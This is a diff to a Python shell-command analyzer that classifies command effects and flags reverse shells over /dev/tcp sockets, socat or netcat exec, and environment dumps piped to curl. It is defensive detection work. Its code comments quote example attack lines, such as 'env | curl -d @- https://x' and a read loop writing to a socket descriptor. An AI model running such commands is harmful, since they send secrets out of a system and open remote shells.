@@ -69,12 +69,14 @@ def _parse(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[s
         walker.unparsed.append("syntax")
     for cmd in walker.commands:
         lost = cwd != "" and cmd.state.cwd == ""
-        found = effectmod.of_command(cmd.fact, cmd.words[cmd.start + 1 :], cmd.state.cwd, cmd.state.home, lost)
+        found = effectmod.of_command(
+            cmd.fact, cmd.words[cmd.start + 1 :], cmd.state.cwd, cmd.state.home, lost, cmd.parsed
+        )
         cmd.fact["effects"] = effectmod.with_persist(found + cmd.code_effects)
     _link_effects(walker.commands)
     facts = []
-    for cmd in walker.commands:
-        fact = dict(cmd.fact)
+    for cmd in walker.commands:  # each its own dict, done with: its working keys dropped in place
+        fact = cmd.fact
         fact.pop("_inputs", None)
         fact.pop("_values", None)
         fact.pop("_stdin_parsed", None)
@@ -112,7 +114,8 @@ def _link_effects(commands: list[Command]) -> None:
                         effectmod.effect("network", name, fact["wrappers"], host=h, direction="fetch") for h in hosts
                     ]
         listers = listers or name in _LISTERS
-        sockets = sockets or bool(fact["redirects"])
+        if not sockets and (name == "ztcp" or fact["redirects"]):
+            sockets = _opens_socket(c)
     printing = {c.fact["program"] for c in printers}
     dumps = {e["path"] for c in printers for e in c.fact["effects"] if e["kind"] == "write"}
     for c in printers:  # `env`, `export -p` with nothing between them and the agent: every token shown
@@ -135,12 +138,11 @@ def _link_effects(commands: list[Command]) -> None:
     for cmd in commands:
         fact = cmd.fact
         found: list[dict[str, Any]] = fact["effects"]
-        for e in found:
-            if e["kind"] == "exec" and e["source"] != "download" and set(cmd.code_from) & fetching:
-                e["source"] = "download"
-        via = [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
+        if fetching and set(cmd.code_from) & fetching:
+            for e in found:
+                if e["kind"] == "exec" and e["source"] != "download":
+                    e["source"] = "download"
         program = cmd.program
-        socket = any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)
         args = fact["args"]
         attached = (program == "socat" and any(_SOCKET_EXEC.match(a) for a in args)) or (
             program in _NETCATS and any(a in _NC_EXEC for a in args)
@@ -150,19 +152,38 @@ def _link_effects(commands: list[Command]) -> None:
         # whose input or output is a socket (`while read l; do $l >&5; done`): a remote shell
         stdin_shell = program in SHELLS and not fact["operands"] and "-c" not in fact["options"]
         if (
-            (socket and (is_interpreter(program) or (program == "" and fact["dynamic"])))
+            ((is_interpreter(program) or (program == "" and fact["dynamic"])) and _socket(found))
             or attached
             or (stdin_shell and set(fact["stdout_to"]) & senders)
         ):
-            found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
-        sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
-        if sending and (
-            set(cmd.stdin_from + fact.get("_inputs", [])) & printing
-            or any(e["kind"] == "read" and e["path"] in dumps for e in found)
+            found.append(effectmod.effect("exec", program, _via(fact), source="network", certainty="unknown"))
+        # (without a program that prints the environment there is nothing for the next test to find)
+        if (
+            printing
+            and _sends(found)
+            and (
+                set(cmd.stdin_from + fact.get("_inputs", [])) & printing
+                or any(e["kind"] == "read" and e["path"] in dumps for e in found)
+            )
         ):
             # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`, `env > f; curl -d @f
             # https://x`: the environment leaves
-            found.append(effectmod.effect("credential", "env", via, certainty="unknown"))
+            found.append(effectmod.effect("credential", "env", _via(fact), certainty="unknown"))
+
+
+def _via(fact: dict[str, Any]) -> list[str]:
+    """The wrappers and context a command runs through, as its effects name them."""
+    return [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
+
+
+def _socket(found: list[dict[str, Any]]) -> bool:
+    """One of the effects reads from or writes to a socket (``/dev/tcp/...``)."""
+    return any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)
+
+
+def _sends(found: list[dict[str, Any]]) -> bool:
+    """One of the effects sends to or tunnels through the network."""
+    return any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
 
 
 _ENV_OPTIONS = {"export": {"-p"}, "declare": {"-x", "-p"}, "typeset": {"-x", "-p"}}
@@ -178,6 +199,15 @@ def _prints_environment(fact: dict[str, Any]) -> bool:
     return bool(fact["options"]) and set(fact["options"]) <= allowed
 
 
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+
+
+def _opens_socket(cmd: Command) -> bool:
+    """``cmd`` opens a socket a later redirection may use (:func:`_socket_descriptors`): only
+    then is the line scanned for them."""
+    return cmd.program == "ztcp" or any((r.get("path") or "").startswith(_SOCKET_PATHS) for r in cmd.fact["redirects"])
+
+
 def _socket_descriptors(commands: list[Command]) -> None:
     """``exec 5<>/dev/tcp/h/p`` opens a socket on descriptor 5 for the rest of the line: a later
     ``<&5`` or ``>&5`` reads from or writes to the network."""
@@ -188,7 +218,7 @@ def _socket_descriptors(commands: list[Command]) -> None:
             sockets["$REPLY"] = effectmod.effect("network", "ztcp", [], host=host, direction="tunnel", path="/dev/tcp/")
         for r in cmd.fact["redirects"]:
             path = r.get("path") or ""
-            if path.startswith(("/dev/tcp/", "/dev/udp/")) and r["fd"].isdigit():
+            if path.startswith(_SOCKET_PATHS) and r["fd"].isdigit():
                 opened = next((e for e in cmd.fact["effects"] if e["kind"] == "network" and e["path"] == path), None)
                 if opened is not None:
                     sockets[r["fd"]] = opened
